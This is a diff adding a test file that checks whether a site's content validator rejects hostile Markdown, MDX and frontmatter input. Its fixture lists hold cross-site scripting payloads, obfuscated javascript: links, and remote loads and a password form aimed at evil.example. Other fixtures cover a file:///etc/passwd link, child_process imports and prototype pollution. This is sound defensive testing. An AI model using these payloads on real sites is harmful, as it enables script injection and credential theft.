@@ -1,0 +1,137 @@
+// cspell:ignore cript vbscript avascript Njcmlwd msgbox
+import { readFileSync, symlinkSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { faultsAfter, RECORD, replacing } from '../fixture.ts';
+
+/** The places that the tests replace, and their lines. */
+const [SENTENCE, SENTENCE_LINE] = ['See the [guides](/how-to/).', 72];
+const [ANSWER, ANSWER_LINE] = ['answer: It costs [=fees.eTransfer].', 42];
+
+const linesOf = (faults: ReturnType<typeof faultsAfter>) => faults.filter(({ file }) => file === RECORD).map(({ line }) => line);
+
+const FIXTURE = readFileSync(join('tests/fixtures/guide', RECORD), 'utf8');
+
+/** Lines of the faults of a page that says something else in one place. */
+const inBody = (text: string) => linesOf(faultsAfter({ [RECORD]: replacing(SENTENCE, text) }));
+const inProse = (text: string) => linesOf(faultsAfter({ [RECORD]: replacing(ANSWER, `answer: ${JSON.stringify(text)}`) }));
+
+/** Links and markup that a text of Markdown can hold, wherever it stands. */
+const IN_MARKDOWN = [
+  ['a script link', '[x](javascript:alert(1))'],
+  ['a script link in upper case', '[x](JAVASCRIPT:alert(1))'],
+  ['a script link behind an entity', '[x](&#106;avascript:alert(1))'],
+  ['a script link behind a hexadecimal entity', '[x](&#x6A;avascript:alert(1))'],
+  ['a script link behind a named entity', '[x](javascript&colon;alert(1))'],
+  ['a script link with a tab inside', '[x](java&Tab;script:alert(1))'],
+  ['a script link with a line break inside', '[x](java&NewLine;script:alert(1))'],
+  ['a script link behind a space', '[x](<  javascript:alert(1)>)'],
+  ['a script link behind a control character', '[x](&#1;javascript:alert(1))'],
+  ['a script link with an escape', '[x](javascript\\:alert(1))'],
+  ['a script link under words', '[**a word**](javascript:alert(1))'],
+  ['a link to data', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
+  ['a link to data in mixed case', '[x](DaTa:text/html,x)'],
+  ['a link to VBScript', '[x](vbscript:msgbox(1))'],
+  ['a link to a file', '[x](file:///etc/passwd)'],
+  ['a link to a blob', '[x](blob:https://evil.example/1)'],
+  ['a link that takes the page’s own protocol', '[x](//evil.example/)'],
+  ['a link that takes it behind a backslash', '[x](/\\evil.example/)'],
+  ['a link without its slashes', '[x](https:evil.example)'],
+  ['a remote image', '![x](https://evil.example/pixel.png)'],
+  ['an image inside a link', '[![x](https://evil.example/pixel.png)](/how-to/)'],
+  ['an image of data', '![x](data:image/svg+xml,<svg/>)'],
+  ['a script', '<script>alert(1)</script>'],
+  ['a script in upper case', '<SCRIPT>alert(1)</SCRIPT>'],
+  ['a remote frame', '<iframe src="https://evil.example/"></iframe>'],
+  ['a frame with a document of its own', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
+  ['a drawing that runs a script', '<svg onload="alert(1)"></svg>'],
+  ['a drawing that runs a script, without a space', '<svg/onload="alert(1)"></svg>'],
+  ['an event handler', '<p onclick="alert(1)">Text</p>'],
+  ['an event handler in mixed case', '<p oNcLiCk="alert(1)">Text</p>'],
+  ['a style element', '<style>body</style>'],
+  ['a style that loads', '<p style="background: url(https://evil.example/)">Text</p>'],
+  ['a form', '<form action="https://evil.example/"><input name="password" /></form>'],
+  ['a meta element', '<meta http-equiv="refresh" content="0;url=https://evil.example/" />'],
+  ['a base element', '<base href="https://evil.example/" />'],
+  ['an object', '<object data="https://evil.example/"></object>'],
+  ['a video', '<video poster="https://evil.example/x.png"></video>'],
+] as const;
+
+/** What only MDX knows. */
+const IN_MDX = [
+  ['a script named below', 'See [x][y].\n\n[y]: javascript:alert(1)', SENTENCE_LINE + 2],
+  ['a script named below, with its link broken', 'See [x][y].\n\n[y]:\n  javascript:alert(1)', SENTENCE_LINE + 2],
+  ['a script named below by an entity', 'See [y].\n\n[y]: &#106;avascript:alert(1)', SENTENCE_LINE + 2],
+  ['an address of a script', '<javascript:alert(1)>', SENTENCE_LINE],
+  ['an HTML comment', '<!-- [if IE]> <script>alert(1)</script> -->', SENTENCE_LINE],
+  ['a link from an expression', '<a href={"java" + "script:alert(1)"}>x</a>', SENTENCE_LINE],
+  ['HTML from an expression', '<Fragment set:html={"<script>alert(1)</script>"} />', SENTENCE_LINE],
+  ['HTML as text of Astro’s', '<div set:html="<script>alert(1)</script>" />', SENTENCE_LINE],
+  ['a component that runs in the browser', '<Callout client:load title="x">Text</Callout>', SENTENCE_LINE],
+  ['an attribute with program code', '<Callout title={process.env.HOME}>Text</Callout>', SENTENCE_LINE],
+  ['attributes that are spread', '<Callout {...globalThis}>Text</Callout>', SENTENCE_LINE],
+  ['an event handler on a component', '<Callout title="x" onclick="alert(1)">Text</Callout>', SENTENCE_LINE],
+  ['a component out of an object', '<globalThis.Object />', SENTENCE_LINE],
+  ['a name of every object', '<constructor />', SENTENCE_LINE],
+  ['an expression', '{process.exit(1)}', SENTENCE_LINE],
+  ['an expression in a sentence', 'It costs {await import("node:fs")}.', SENTENCE_LINE],
+  ['an expression in a table', '| a |\n| - |\n| {globalThis} |', SENTENCE_LINE + 2],
+  ['an expression inside a component', '<Callout title="x">\n\n{globalThis}\n\n</Callout>', SENTENCE_LINE + 2],
+  ['code behind a comment', '{/* x */ process.exit(1) /* y */}', SENTENCE_LINE],
+  ['an import of a module of Node’s', 'import { execSync } from "node:child_process"', SENTENCE_LINE],
+  ['an import of a package', 'import react from "react"', SENTENCE_LINE],
+  ['an import of a file', 'import secret from "../../../../package.json"', SENTENCE_LINE],
+  ['an import of an address', 'import x from "https://evil.example/x.js"', SENTENCE_LINE],
+  ['an import for its effect', 'import "../../../../scripts/test.ts"', SENTENCE_LINE],
+  ['an export', 'export const frontmatter = { title: "x" }', SENTENCE_LINE],
+  ['another layout', 'export default ({ children }) => children', SENTENCE_LINE],
+  ['an export of everything', 'export * from "node:fs"', SENTENCE_LINE],
+  ['code inside a link', '[{globalThis}](/how-to/)', SENTENCE_LINE],
+] as const;
+
+/** What frontmatter can hold beside prose, as a line in place of another one. */
+const IN_FIELDS = [
+  ['a script for a website', 'website: https://first.example/', 'website: javascript:alert(1)'],
+  ['a script for a store', 'url: https://apps.apple.com/ca/app/first/id1', 'url: JavaScript:alert(1)'],
+  ['data for a source', 'url: https://first.example/fees', 'url: data:text/html,x'],
+  ['a script among related pages', '- /how-to/', '- javascript:alert(1)'],
+  ['another host among related pages', '- /how-to/', '- //evil.example/'],
+  ['a tag in a name', 'name: First Bank\n', 'name: <script>alert(1)</script>\n'],
+  ['a layout of Astro’s', 'name: First Bank\n', 'layout: ../../../layouts/Page.astro\nname: First Bank\n'],
+  ['a value that YAML would construct', 'name: First Bank\n', 'name: !!js/function "function () {}"\n'],
+  ['an alias', 'name: First Bank\n', 'name: &name First Bank\nlegalName: *name\n'],
+  ['a name of every object', 'name: First Bank\n', '__proto__: { polluted: true }\nname: First Bank\n'],
+] as const;
+
+describe('a hostile file is refused where it is hostile', () => {
+  test('and nowhere else: the same places take words', () => {
+    expect(inBody('Words.')).toEqual([]);
+    expect(inProse('Words.')).toEqual([]);
+  });
+
+  test.each(IN_MARKDOWN)('in the text: %s', (_, text) => expect(inBody(text)).toContain(SENTENCE_LINE));
+
+  test.each(IN_MARKDOWN)('in prose of the frontmatter: %s', (_, text) => expect(inProse(text)).toContain(ANSWER_LINE));
+
+  test.each(IN_MDX)('in the text: %s', (_, text, line) => expect(inBody(text)).toContain(line));
+
+  test.each(IN_FIELDS)('in a field: %s', (_, old, now) => {
+    const first = FIXTURE.slice(0, FIXTURE.indexOf(old)).split('\n').length;
+    const last = first + now.trimEnd().split('\n').length - 1;
+    expect(linesOf(faultsAfter({ [RECORD]: replacing(old, now) })).filter((line) => line >= first && line <= last)).not.toEqual([]);
+  });
+
+  test.each(['---js\n', '---json\n', '+++\n', ';;;\n'])('at its start: frontmatter in another language (%j)', (fence) => {
+    expect(linesOf(faultsAfter({ [RECORD]: (text) => text.replace('---\n', fence) }))).toContain(1);
+  });
+
+  test.each(['src/content/banks/second.md', 'src/content/banks/second.astro', 'src/content/pages/x.html', 'src/data/code.ts'])(
+    'by its kind: %s',
+    (path) => expect(faultsAfter({ [path]: 'export default 1' })).toMatchObject([{ file: path, line: 1 }]),
+  );
+
+  test('by being a link to another file', () => {
+    const path = 'src/content/banks/linked.mdx';
+    expect(faultsAfter({}, (root) => symlinkSync('/etc/hostname', join(root, path)))).toMatchObject([{ file: path }]);
+  });
+});
